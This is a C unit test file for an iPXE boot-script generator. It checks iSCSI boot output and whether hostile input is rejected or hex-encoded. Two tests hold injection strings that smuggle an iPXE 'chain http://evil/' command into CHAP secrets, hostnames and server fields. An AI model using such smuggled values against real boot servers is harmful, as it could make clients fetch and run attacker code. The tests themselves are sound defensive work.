/* Unit tests for linkmgr/ipxe.c: script content and hostile input (the renderer must refuse
 * or neutralise it even when validation upstream was bypassed). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ipxe.h"

#define PREFIX "iqn.2026-11.org.bootlink"
static const struct bl_ipxe_params P = { "10.0.0.1", 3260, PREFIX };

/* The bytes of a "set NAME:hex aa:bb:..." line, decoded. */
static char *decode_hex_setting(const char *script, const char *name)
{
	char key[64];
	snprintf(key, sizeof(key), "set %s:hex ", name);
	const char *p = strstr(script, key);
	assert_non_null(p);
	p += strlen(key);
	char *out = calloc(1, 512);
	size_t n = 0;
	while (*p && *p != '\n') {
		unsigned v;
		assert_int_equal(sscanf(p, "%2x", &v), 1);
		out[n++] = (char)v;
		p += 2;
		if (*p == ':')
			p++;
	}
	return out;
}

static void test_boot_script(void **state)
{
	(void)state;
	struct bl_ipxe_client c = { "52:54:00:12:34:56", "pc01", "win10", BL_IPXE_BOOT, NULL, NULL };
	char *s;
	assert_int_equal(bl_ipxe_client_script(&P, &c, &s), 0);
	assert_int_equal(strncmp(s, "#!ipxe\n", 7), 0);
	assert_non_null(strstr(s, "\nset initiator-iqn " PREFIX ":client-525400123456\n"));
	assert_non_null(strstr(s, "\nsanboot iscsi:10.0.0.1::3260:0:" PREFIX
				  ":target-525400123456 || goto failed\n"));
	assert_non_null(strstr(s, "pc01 could not boot its disk (image win10) from server 10.0.0.1"));
	assert_non_null(strstr(s, "\ngoto boot\n"));	/* retries */
	assert_null(strstr(s, "username"));
	free(s);
}

static void test_hostile_chap_is_hex_encoded(void **state)
{
	(void)state;
	const char *user = "u\n||shell ${x}";
	const char *secret = "a b\"#:${mac}||\r\n&& chain http://evil/";
	struct bl_ipxe_client c = { "52:54:00:12:34:56", NULL, NULL, BL_IPXE_BOOT, user, secret };
	char *s;
	assert_int_equal(bl_ipxe_client_script(&P, &c, &s), 0);
	assert_null(strstr(s, "evil"));
	assert_null(strstr(s, "shell"));
	assert_null(strstr(s, "${x}"));
	char *u = decode_hex_setting(s, "username"), *pw = decode_hex_setting(s, "password");
	assert_string_equal(u, user);
	assert_string_equal(pw, secret);
	free(u);
	free(pw);
	/* every line is one of ours: no line starts with what the secret carried */
	for (char *line = s; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL)
		assert_false(strncmp(line, "&&", 2) == 0 || strncmp(line, "chain http", 10) == 0);
	free(s);
}

static void test_hostile_names_refused(void **state)
{
	(void)state;
	const char *bad[] = { "pc1\nchain http://evil/x", "pc ${x}", "a||b", "pc#1", "pc\"1", "", };
	char *s = NULL;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct bl_ipxe_client c = { "52:54:00:12:34:56", bad[i], NULL, BL_IPXE_DISABLED, NULL,
					    NULL };
		assert_int_equal(bl_ipxe_client_script(&P, &c, &s), -EINVAL);
		c.hostname = NULL;
		c.image = bad[i];
		assert_int_equal(bl_ipxe_client_script(&P, &c, &s), -EINVAL);
	}
	struct bl_ipxe_client c = { "52:54:00:12:34:56\n", NULL, NULL, BL_IPXE_BOOT, NULL, NULL };
	assert_int_equal(bl_ipxe_client_script(&P, &c, &s), -EINVAL);
	struct bl_ipxe_params hp = { "10.0.0.1\nchain http://evil", 3260, PREFIX };
	c.mac = "52:54:00:12:34:56";
	assert_int_equal(bl_ipxe_client_script(&hp, &c, &s), -EINVAL);
	assert_int_equal(bl_ipxe_dispatch_script(&hp, &s), -EINVAL);
	struct bl_ipxe_params pp = { "10.0.0.1", 3260, "iqn.2026-11.org.x y||z" };
	assert_int_equal(bl_ipxe_client_script(&pp, &c, &s), -EINVAL);
	/* CHAP half given */
	c.chap_user = "u";
	assert_int_equal(bl_ipxe_client_script(&P, &c, &s), -EINVAL);
}

static void test_messages(void **state)
{
	(void)state;
	char *s;
	assert_int_equal(bl_ipxe_dispatch_script(&P, &s), 0);
	assert_non_null(strstr(s, "chain tftp://10.0.0.1/bootlink/${mac:hexraw}.ipxe || goto unknown"));
	assert_non_null(strstr(s, "is not linked to an image on bootlink server 10.0.0.1"));
	assert_non_null(strstr(s, "linkctl client add ${mac} --image IMAGE"));
	free(s);
	struct bl_ipxe_client c = { "52:54:00:12:34:56", "pc01", "win10", BL_IPXE_DISABLED, "u",
				    "0123456789ab" };
	assert_int_equal(bl_ipxe_client_script(&P, &c, &s), 0);
	assert_non_null(strstr(s, "disabled on bootlink server 10.0.0.1"));
	assert_non_null(strstr(s, "linkctl client enable 52:54:00:12:34:56"));
	assert_null(strstr(s, "sanboot"));
	assert_null(strstr(s, "password"));	/* no credentials for a client not served */
	free(s);
	c.kind = BL_IPXE_UNAVAILABLE;
	assert_int_equal(bl_ipxe_client_script(&P, &c, &s), 0);
	assert_non_null(strstr(s, "linked to image win10 on bootlink server 10.0.0.1"));
	assert_null(strstr(s, "sanboot"));
	free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_boot_script),
		cmocka_unit_test(test_hostile_chap_is_hex_encoded),
		cmocka_unit_test(test_hostile_names_refused),
		cmocka_unit_test(test_messages),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
